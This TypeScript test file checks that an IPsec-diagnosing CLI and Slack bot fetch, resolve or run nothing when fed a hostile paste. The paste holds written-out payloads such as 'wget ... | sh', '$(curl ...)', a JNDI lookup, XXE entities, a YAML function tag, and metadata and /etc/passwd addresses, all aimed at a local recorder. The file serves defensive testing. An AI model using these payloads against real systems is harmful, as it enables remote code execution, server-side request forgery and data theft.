import { execFile } from 'node:child_process'
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { promisify } from 'node:util'
import { describe, expect, it } from 'vitest'
import { deliverEvent } from '../../src/playground/app-link.ts'
import { channels, person, team } from '../../src/playground/cast.ts'
import { createFetch } from '../../src/playground/stand-in.ts'
import { mention } from '../../src/playground/typed-text.ts'
import { Workspace } from '../../src/playground/workspace.ts'
import { typeText } from '../../src/playground/writing.ts'
import { shown } from '../slack/workspace.ts'
import { serveSlack, startBot } from './support/processes.ts'

const recorder = pathToFileURL(join(import.meta.dirname, 'support/record-connections.mjs')).href
const folder = mkdtempSync(join(tmpdir(), 'connections-'))

/** Everything that a careless program would fetch, open, look up or run. `PORT` is a port at which somebody would hear it. */
const tempting = `
conn branch
	authby=secret
	left=gateway-a.example.org
	leftsubnet=10.1.0.0/24
	right=gateway-b.example.net
	rightsubnet=10.2.0.0/24
	include http://127.0.0.1:PORT/ipsec.conf
	leftcert=https://127.0.0.1:PORT/cert.pem
	leftupdown="wget http://127.0.0.1:PORT/run -O- | sh"

https://127.0.0.1:PORT/a http://169.254.169.254/latest/meta-data/ file:///etc/passwd \\\\fileserver.example\\share
<!DOCTYPE x SYSTEM "http://127.0.0.1:PORT/x.dtd" [<!ENTITY e SYSTEM "http://127.0.0.1:PORT/e"><!ENTITY % p SYSTEM "http://127.0.0.1:PORT/p"> %p;]>
<fpc4:Root xmlns:fpc4="http://schemas.microsoft.com/isa/config-4" xsi:schemaLocation="x http://127.0.0.1:PORT/x.xsd">
<xi:include href="http://127.0.0.1:PORT/include" xmlns:xi="http://www.w3.org/2001/XInclude"/>&e;</fpc4:Root>

ends:
  A: !!js/function 'function () { require("http").get("http://127.0.0.1:PORT/yaml") }'
  vendor: isa
  external_address: vpn.example.com
connections {
  a {
    remote_addrs = peer.example.com
    include http://127.0.0.1:PORT/swanctl.conf
  }
}
crypto pki trustpoint T
 enrollment url http://127.0.0.1:PORT/certsrv
logging host syslog.example.com
snmp-server host snmp.example.com public
ntp server time.example.com
\`\`\`
$(curl http://127.0.0.1:PORT/shell) \${jndi:ldap://127.0.0.1:PORT/x}
![x](http://127.0.0.1:PORT/picture.png) <http://127.0.0.1:PORT/link|link>
`

interface Seen {
  readonly what: string
  readonly target: string
}

function recording(name: string): { readonly variables: Readonly<Record<string, string>>; seen(): Seen[] } {
  const file = join(folder, name)
  writeFileSync(file, '')
  return {
    variables: { NODE_OPTIONS: `--import ${recorder}`, CONNECTIONS: file },
    seen: () =>
      readFileSync(file, 'utf8')
        .split('\n')
        .flatMap((line) => (line === '' ? [] : [JSON.parse(line)])),
  }
}

/** What the loader of TypeScript starts and connects to on its way is no matter of the program. */
function byTheProgram({ what, target }: Seen): boolean {
  const isLoader = (what === 'connection' && target.includes('tsx-')) || (what === 'program' && /esbuild/.test(target))
  return !isLoader
}

describe('the recorder', () => {
  it('sees connections, names and programs of every kind', async () => {
    const { variables, seen } = recording('self')
    const code = `
      await fetch('http://127.0.0.1:49999/').catch(() => 0)
      await fetch('https://by-fetch.invalid/').catch(() => 0)
      const { get } = await import('node:http')
      await new Promise((done) => get('http://by-http.invalid/').on('error', done))
      const { lookup } = await import('node:dns/promises')
      await lookup('by-lookup.invalid').catch(() => 0)
      const { request } = await import('undici')
      await request('http://by-undici.invalid/').catch(() => 0)
      const { execFileSync } = await import('node:child_process')
      execFileSync('true')
      const { createSocket } = await import('node:dgram')
      await new Promise((done) => createSocket('udp4').send('x', 9, '127.0.0.1', done))
      process.exit()`
    await promisify(execFile)(process.execPath, ['--input-type=module', '-e', code], {
      env: { ...process.env, ...variables },
    })
    const told = seen().map(({ what, target }) => `${what} ${target}`)
    for (const part of [
      '127.0.0.1:49999',
      'by-fetch.invalid',
      'by-http.invalid',
      'by-lookup.invalid',
      'by-undici.invalid',
      'program true',
      'datagram',
    ])
      expect(
        told.filter((line) => line.includes(part)),
        part,
      ).not.toEqual([])
  })
})

describe('a paste full of addresses', () => {
  it('makes the command line open, look up and start nothing', async () => {
    const { variables, seen } = recording('cli')
    const file = join(folder, 'paste.txt')
    writeFileSync(file, tempting.replaceAll('PORT', '49999'))
    const run = promisify(execFile)(process.execPath, ['--import', 'tsx', 'src/cli.ts', file], {
      env: { ...process.env, ...variables },
    })
    const output = await run.then(
      ({ stdout }) => stdout,
      ({ stdout }: { readonly stdout: string }) => stdout,
    )
    expect(output).toContain('What was read')
    expect(seen().filter(byTheProgram)).toEqual([])
  })

  it('makes the bot speak with Slack alone', async () => {
    const workspace = new Workspace()
    const asked: string[] = []
    const slack = await serveSlack(async (input, init) => {
      asked.push(String(input))
      return createFetch(workspace, 'xoxb-test')(input, init)
    })
    const { variables, seen } = recording('bot')
    const bot = await startBot(slack.url, variables)
    try {
      const { port } = new URL(slack.url)
      const paste = tempting.replaceAll('PORT', port)
      const link = { url: `http://127.0.0.1:${bot.port}/slack/events`, signingSecret: 'the-signing-secret' }
      const answers = () => workspace.messages.filter(({ author }) => author === 'app')
      await typeText({ workspace, link }, channels[0].id, `/ipsec-diagnose ${paste}`)
      await expect.poll(() => answers().length, { timeout: 20_000 }).toBe(1)
      await typeText({ workspace, link }, channels[0].id, `${mention} ${paste}`)
      await expect.poll(() => shown(answers().at(-1)), { timeout: 20_000 }).toMatch(/PA00\d/)
      const file = {
        id: 'F1',
        name: 'a.txt',
        url_private: `http://127.0.0.1:${port}/file`,
        url_private_download: `${slack.url}/file`,
      }
      const event = {
        type: 'message',
        channel_type: 'im',
        channel: 'D01',
        user: person.id,
        ts: '1.1',
        text: 'x',
        files: [file],
      }
      await deliverEvent(link, { type: 'event_callback', event_id: 'Ev1', team_id: team.id, event })
      await expect
        .poll(() => asked.filter((url) => url.includes('chat.')).length, { timeout: 20_000 })
        .toBeGreaterThan(2)

      const others = seen().filter((each) => byTheProgram(each) && each.target !== `127.0.0.1:${port}`)
      expect(others).toEqual([])
      // What came to the port of the played Slack came over the way to Slack, with an address of Slack.
      expect(asked.filter((url) => !/^https:\/\/(?:slack|hooks\.slack|files\.slack)\.com\//.test(url))).toEqual([])
    } finally {
      await bot.end()
      slack.server.closeAllConnections()
      slack.server.close()
    }
  })
})
